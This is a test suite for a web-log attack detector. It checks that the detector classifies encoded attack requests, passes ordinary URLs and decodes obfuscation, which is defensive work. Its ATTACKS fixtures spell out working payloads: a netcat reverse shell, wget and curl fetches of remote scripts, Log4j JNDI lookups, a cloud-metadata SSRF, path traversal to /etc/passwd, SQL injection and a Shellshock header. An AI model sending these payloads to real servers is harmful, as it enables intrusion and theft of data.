import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readAccess } from '../../src/core/access-line.ts';
import { attackIn } from '../../src/core/web-attack.ts';
import { JAVA, NODE, SSRF } from '../../src/core/web-attack-code.ts';
import { REMOTE, TRAVERSAL } from '../../src/core/web-attack-files.ts';
import { PHP } from '../../src/core/web-attack-php.ts';
import { PROBE, SCANNER } from '../../src/core/web-attack-probe.ts';
import { XSS } from '../../src/core/web-attack-script.ts';
import { SHELL } from '../../src/core/web-attack-shell.ts';
import { SQL } from '../../src/core/web-attack-sql.ts';
import { WINDOWS } from '../../src/core/web-attack-windows.ts';
import { decoded, spoken, unbased } from '../../src/core/web-decode.ts';
import { requestMatters } from '../../src/core/web-interest.ts';
import type { WebRequest } from '../../src/core/web-request.ts';

const ask = (target: string, more: Partial<WebRequest> = {}): WebRequest => ({
  ip: '203.0.113.9',
  user: null,
  method: 'GET',
  target,
  version: '1.1',
  status: 200,
  bytes: 10,
  referrer: null,
  agent: 'Mozilla/5.0',
  site: null,
  ...more,
});

/** Own made, one or more a class, each with something that hides it. */
const ATTACKS: readonly (readonly [string, string])[] = [
  ['rce', '/ping?host=127.0.0.1;cat%20/etc/hostname'],
  ['rce', '/ping?host=x%7Cnc%20-e%20/bin/sh%20192.0.2.1%204444'],
  ['rce', '/run?x=w%27%27get+http://192.0.2.1/a.sh'],
  ['rce', '/run?x=%24(curl%20192.0.2.1)'],
  ['rce', '/cgi-bin/x.cgi?y=powershell%20-enc%20AAAA'],
  ['lfi', '/show?f=..%252f..%252f..%252fetc%252fpasswd'],
  ['lfi', '/show?f=%c0%ae%c0%ae/%c0%ae%c0%ae/x'],
  ['lfi', '/static/%2e%2e/%2e%2e/win.ini'],
  ['lfi', '/.git/config'],
  ['rfi', '/index.php?page=http://192.0.2.1/shell.txt'],
  ['php', '/i.php?f=php://filter/convert.base64-encode/resource=index'],
  ['php', '/i.php?x=%3C?php%20phpinfo();'],
  ['java', '/?x=$%7Bjndi:ldap://192.0.2.1/a%7D'],
  ['java', '/?x=$%7B$%7Blower:j%7Dndi:ldap://192.0.2.1/a%7D'],
  ['node', '/?name=%7B%7B7*7%7D%7D'],
  ['ssrf', '/fetch?url=http://169.254.169.254/latest/meta-data/'],
  ['xss', '/?q=%3Cscr%00ipt%3Ealert(1)%3C/script%3E'],
  ['xss', '/?q=%22%20onmouseover=%22alert(1)'],
  ['sqli', "/item?id=1'%20or%20'1'='1"],
  ['sqli', '/item?id=1/**/union/**/select/**/1,2,3'],
  ['sqli', '/item?id=1;waitfor%20delay%20%270:0:5%27--'],
  ['probe', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'],
];

const ORDINARY: readonly string[] = [
  '/',
  '/index.html',
  '/a/b/c.js?v=1.2.3',
  '/search?q=tom+%26+jerry',
  '/search?q=select+a+chair+from+our+shop',
  '/search?q=o%27brien',
  '/search?q=how+to+cat+a+file',
  '/login?next=/account/orders',
  '/share?u=https://www.example.org/page?id=3',
  '/api/items?filter%5Bname%5D=chair&sort=-price',
  '/img/photo(1).jpg',
  '/map?bbox=1.5,2.5,3.5,4.5',
  '/wiki/C%2B%2B',
  '/wiki/Union_(band)',
  '/price?range=10..20',
  '/caf%C3%A9?drink=th%C3%A9',
  '/.well-known/acme-challenge/abcDEF',
  '/user/settings?tab=history',
  '/q?text=time+is+money;+really',
  '/news?title=Drop+in+prices&order=by+date',
  '/docs/shell-scripts/bash-guide',
  '/blog/tags/python?page=3',
  '/download?file=manual.pdf',
  '/page?return=%2Fhome%2F',
  '/unsubscribe?mail=jane.doe%40example.org',
];

describe('attackIn', () => {
  it.each(ATTACKS)('%s: %s', (name, target) => expect(attackIn(ask(target))?.class).toBe(name));
  it.each(ORDINARY)('nothing in %s', (target) => expect(attackIn(ask(target))).toBeNull());

  it('looks at referrer and agent too, and leaves what was searched for at a search engine alone', () => {
    expect(attackIn(ask('/', { agent: '() { :;}; /bin/bash -c "id"' }))).toMatchObject({ class: 'rce', where: 'header' });
    expect(attackIn(ask('/', { agent: 'sqlmap/1.7' }))?.class).toBe('scanner');
    expect(attackIn(ask('/', { referrer: 'https://www.google.com/search?q=cat+/etc/passwd' }))).toBeNull();
  });

  it('calls what is no HTTP by its name', () =>
    expect(attackIn(ask('\u0016\u0003\u0001', { method: null }))).toMatchObject({ pattern: 'tls-on-plain-port', sure: false }));

  it.each(ATTACKS.map(([, target]) => target))('is not turned away before it is asked: %s', (target) =>
    expect(requestMatters('GET', target, 200)).toBe(true),
  );

  it('spares simple texts only shapes that none of them can have', () => {
    const shapes = [...JAVA, ...NODE, ...SSRF, ...TRAVERSAL, ...REMOTE, ...PHP, ...PROBE, ...SCANNER, ...XSS, ...SHELL, ...WINDOWS, ...SQL].filter(
      (shape) => !shape.simple,
    );
    const word = fc.stringMatching(/^[a-z0-9_.-]{0,12}$/);
    fc.assert(
      fc.property(fc.array(word, { maxLength: 5 }), fc.constantFrom('path' as const, 'value' as const, 'name' as const), (words, where) => {
        const text = spoken(where, words.join('/'), true);
        expect(text.simple).toBe(true);
        expect(
          shapes
            .filter((shape) => (!shape.where || shape.where.includes(where)) && shape.at.test(text[shape.form ?? 'text']))
            .map(({ name }) => name),
        ).toEqual([]);
      }),
    );
  });

  it('judges each part of a request by itself, in whatever order they came before', () => {
    const said = (target: string, more: Partial<WebRequest>) => {
      const attack = attackIn(ask(target, more));
      return attack && `${attack.class} ${attack.where} ${attack.sure}`;
    };
    const tool = { agent: 'sqlmap/1.8' };
    const log4j = { referrer: '${jndi:ldap://203.0.113.99/a}' };
    for (let round = 0; round < 3; round += 1) {
      // Who has the application visits it; who has it not and is asked for it is searched.
      expect(said('/phpmyadmin/', { status: 200 })).toBeNull();
      expect(said('/phpmyadmin/', { status: 404 })).toBe('probe target true');
      expect(said('/news', tool)).toBe('scanner header true');
      expect(said('/news', {})).toBeNull();
      expect(said('/news', log4j)).toBe('java header true');
      // The first of the tables wins, whichever header it is; a target that is sure wins over both, and a header that is sure over a weak target.
      expect(said('/news', { ...tool, ...log4j })).toBe('scanner header true');
      expect(said('/a?b=../../../etc/passwd', tool)).toBe('lfi target true');
      expect(said('/a/../b', {})).toBe('lfi target false');
      expect(said('/a/../b', tool)).toBe('scanner header true');
    }
  });

  it('never throws, whatever is asked', () => {
    const bits = fc.constantFrom(
      "'",
      '"',
      '%',
      '%2',
      '%u00',
      '\\x',
      '&#',
      '/*',
      '*/',
      '${',
      '}',
      '(',
      ')',
      '<',
      '>',
      ';',
      '|',
      '..',
      '/',
      '=',
      '&',
      '+',
      '\u0000',
      '\udc80',
      'select',
      'union',
    );
    const text = fc.array(fc.oneof(bits, fc.string()), { maxLength: 60 }).map((parts) => parts.join(''));
    fc.assert(fc.property(text, text, text, (target, referrer, agent) => void attackIn(ask(target, { referrer, agent }))));
  });
});

describe('taking off what hides', () => {
  it.each([
    ['%2527', "'"],
    ['%u0027', "'"],
    ['%c0%af', '/'],
    ['&lt;&#x3c;&#60;', '<<<'],
    ['\\u003cA\\x3e', '<a>'],
    ['%E2%82%AC', '€'],
    ['100%', '100%'],
    ['%zz', '%zz'],
  ])('%s is %s', (raw, plain) => expect(decoded(raw, false)).toBe(plain));

  it('undoes Base64 only where it is certain to be text', () => {
    expect(unbased('Y2F0IC9ldGMvcGFzc3dk')).toBe('cat /etc/passwd');
    expect(unbased('AAECAwQFBgcICQoLDA0O')).toBeNull();
    expect(unbased('chair')).toBeNull();
  });
});

describe('hostile length', () => {
  it.each(["'", '%27', '/*', '../', '${', '{{', 'a=', '((', '<a ', 'select ', '%2525', '\\', ' or 1', '`x', ';x=', 'if not '])(
    'eight thousand characters of %s come to an end',
    (bit) => {
      const target = `/?q=${bit.repeat(8_192 / bit.length)}`;
      const read = readAccess(`192.0.2.1 - - [02/Mar/2026:10:00:00 +0000] "GET ${target} HTTP/1.1" 200 5 "-" "${target}"`);
      expect(read).not.toBeUndefined();
      attackIn(ask(target, { agent: target, referrer: target }));
    },
  );
});
